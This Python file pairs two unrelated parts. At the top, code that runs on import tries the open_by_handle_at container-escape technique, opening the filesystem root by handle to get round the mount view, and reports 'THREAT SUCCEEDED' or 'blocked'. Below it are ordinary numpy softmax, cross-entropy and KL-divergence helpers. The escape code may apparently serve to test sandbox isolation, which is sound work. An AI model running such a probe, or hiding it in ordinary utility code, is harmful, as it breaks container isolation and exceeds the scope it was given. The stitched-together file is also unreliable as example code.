"""Tries the open_by_handle_at escape: read a file by handle, bypassing the mount view."""
import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(8 + 128)
ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
mount_id = ctypes.c_int()
if libc.name_to_handle_at(-100, b"/", handle, ctypes.byref(mount_id), 0) != 0:
    print("blocked: name_to_handle_at", os.strerror(ctypes.get_errno()))
else:
    fd = libc.open_by_handle_at(-100, handle, os.O_RDONLY)
    if fd >= 0:
        print("THREAT SUCCEEDED: open_by_handle_at fd", fd)
    else:
        print("blocked: open_by_handle_at", os.strerror(ctypes.get_errno()))


def softmax(z, axis=-1):
    e = np.exp(z - z.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)


def log_softmax(z, axis=-1):
    s = z - z.max(axis=axis, keepdims=True)
    return s - np.log(np.exp(s).sum(axis=axis, keepdims=True))


def cross_entropy(logits, labels):
    return float(-log_softmax(logits, 1)[np.arange(len(labels)), labels].mean())


def kl_divergence(p, q):
    m = p > 0
    return float((p[m] * np.log(p[m] / q[m])).sum())
